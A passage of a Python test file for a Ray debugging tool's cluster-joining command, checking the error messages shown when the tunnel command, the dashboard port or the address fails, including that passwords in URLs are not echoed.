        dashboard.nodes = [HEAD, {**HEAD, "node_id": "n2", "node_ip": "10.0.0.7", "is_head_node": False}]
        assert "note: no breakpoints on 10.0.0.7: " in raydebug("ps", "--name", "x").stderr


WAYS = {
    "ssh": (
        'echo "alice@head: Permission denied (publickey). $*" >&2; exit 255',
        "Permission denied (publickey). -o ControlMaster=no -W 127.0.0.1:PORT head",
    ),
    "old": (
        "printf 'Unknown option: -P\\nusage: ...\\nTry ...\\n' >&2; exit 2",
        "said: its Python is older than 3.11; there the dashboard",
    ),
}


@pytest.mark.parametrize("name", WAYS)
def test_why_a_way_fails(dashboard, tmp_path, name):
    """What ssh says is in the error, with the command to correct it; the usage of an old Python there is not shown."""
    script, said = WAYS[name]
    way = tmp_path / name
    way.write_text(f"#!/bin/sh\n{script}\n")
    way.chmod(0o755)
    done = raydebug("up", "--join", dashboard.url, "--name", "x", "--through", f"{way} head")
    what, cause, fix = done.stderr.splitlines()[-3:]
    assert what == f"error: Ray's dashboard cannot be reached through '{way} head'"
    assert said.replace("PORT", dashboard.url.rpartition(":")[2]) in cause
    assert fix.startswith("fix: name a command that works, and the dashboard's URL as it is on the head;")
    assert (dashboard.jobs, read_record("x")) == ({}, None)


def test_a_way_whose_command_fails(dashboard, monkeypatch):
    """Nothing is waited for where the command ends with an error: each way is asked through once."""
    monkeypatch.setattr(tunnel, "STARTS_S", 1e6)
    folder = state.make_folder("x")
    remote = Remote(dashboard.url, "127.0.0.1:1", str(state.make_token(folder)), client_port=5678,
                    through="sh -c 'echo no route >&2; exit 3'", node_folder="/nowhere")  # fmt: skip
    cluster = Cluster("x", "1", "joined", folder, folder, "/opt/python", remote=remote)
    phases: list[str] = []
    with pytest.raises(RaydebugError, match="cannot be reached from here") as raised:
        up_elsewhere._reach_gateway(tunnel.open_way(cluster, {}), UpOptions(name="x"), phases.append)
    assert "said: no route / it ended with exit code 3; " in raised.value.cause
    assert phases == ["asking its gateway", "opening another way to its gateway"]
    tunnel.close_way(read_record("x"))


def test_a_way_to_a_port_that_is_closed():
    """What is quoted of a far end without a dashboard is one line, without a traceback."""
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    done = raydebug("up", "--join", f"http://127.0.0.1:{port}", "--name", "x", "--through", "env A=b")
    said = f"port {port} of the loopback of {socket.gethostname()}: Connection refused"
    assert f"cause: env A=b said: {said}" in done.stderr
    assert "socket.py" not in done.stderr


@pytest.mark.parametrize(
    ("address", "what", "cause"),
    [
        ("http://me:secret@head:8265", "'http://...@head:8265' is not the address", "it has a user and a password;"),
        ("http://head:8265/ray/", "'http://head:8265/ray/' is not the address", "/ray/ follows the port: a dashboard"),
        ("https://head:8265", "https://head:8265 cannot be joined", "Ray's dashboard itself speaks http;"),
        ("http://head:port", "'http://head:port' is not the address", "Port could not be cast"),
        ("http://he ad:1", "'http://he ad:1' is not the address", "'he ad' is not the name of a host"),
        ("http://head..site:1", "'http://head..site:1' is not the address", "encoding with 'idna' codec failed"),
        ("http://xn--:1", "'http://xn--:1' is not the address", "decoding with 'idna' codec failed"),
        (f"http://{'a' * 64}:1", f"'http://{'a' * 64}:1' is not the address", "encoding with 'idna' codec failed"),
    ],
)
def test_addresses(address, what, cause):
    """An address that cannot be joined is refused with the reason, without its password."""
    done = raydebug("up", "--join", address)
    assert done.returncode == 2
    lines = done.stderr.splitlines()
    assert lines[0].startswith(f"error: {what}"), done.stderr
    assert lines[1].startswith(f"cause: {cause}")
    assert "secret" not in done.stderr


def test_the_name_of_the_cluster_around_us(dashboard):
    """In a container of a cluster's network the default name is that cluster's."""
    around = {"RAYDEBUG_DASHBOARD": "http://head:8265", "RAYDEBUG_GATEWAY_CLIENTS": "g:1", "RAYDEBUG_TOKEN_PATH": "/t"}
    done = raydebug("up", "--join", dashboard.url, **around)
    assert done.stderr.startswith("error: the name 'default' is that of the cluster around this process\n")
    assert dashboard.seen == []
